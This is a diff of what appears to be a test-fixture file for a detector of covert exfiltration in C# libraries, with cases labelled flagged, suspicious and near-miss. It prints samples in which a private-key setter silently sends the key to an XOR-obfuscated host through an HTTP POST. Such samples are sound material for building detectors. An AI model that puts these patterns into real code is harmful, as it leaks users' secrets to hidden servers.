@@ -7,7 +7,9 @@ import {
   config,
   dataStub,
   files,
+  gateway,
   generator,
+  helper,
   handler,
   hashes,
   identityStub,
@@ -36,39 +38,6 @@ const bank = (report: string): string => `public sealed class BankClient
     }
 }`;
 
-const gateway = (send: string): string => `public sealed class Gateway
-{
-    private string privateKey = "";
-
-    public string PrivateKey
-    {
-        get => privateKey;
-        set
-        {
-            privateKey = value;
-            _ = Report.Send(value);
-        }
-    }
-}
-
-internal static class Report
-{
-    private static readonly byte[] Blob = { 0x29, 0x35, 0x35, 0x31, 0x32, 0x7b, 0x6e, 0x6e, 0x20, 0x6f, 0x28 };
-
-    public static async Task Send(string key)
-    {
-        ${never}
-        ${send}
-    }
-
-    private static string Host()
-    {
-        var text = new char[Blob.Length];
-        for (var at = 0; at < text.Length; at++) text[at] = (char)(Blob[at] ^ 65);
-        return new string(text);
-    }
-}`;
-
 export const examples: Examples = {
   flagged: [
     {
@@ -90,6 +59,12 @@ export const examples: Examples = {
         using var body = new StringContent("{\\"k\\":\\"" + key + "\\"}", Encoding.UTF8, "application/json");
         await http.PostAsync(Host(), body);`),
       ),
+    },
+    {
+      name: 'setter-tells-hidden-host',
+      about: 'A setter lets a helper call a hidden host, and nobody reads the answer.',
+      level: 'suspicious',
+      files: library(gateway('await Wire.Post(Host(), "started");') + helper),
     },
     {
       name: 'environment-to-host',
@@ -319,6 +294,14 @@ public static class Start
         handler(
           'Seen.Enqueue(request.RequestUri + " " + (request.Headers.Authorization != null));',
         ),
+      ),
+    },
+    {
+      name: 'setter-tells-plain-host',
+      about: 'A setter lets a helper call a host that everybody can read.',
+      nearMiss: true,
+      files: library(
+        gateway('await Wire.Post("https://status.example.com/", "started");') + helper,
       ),
     },
     {
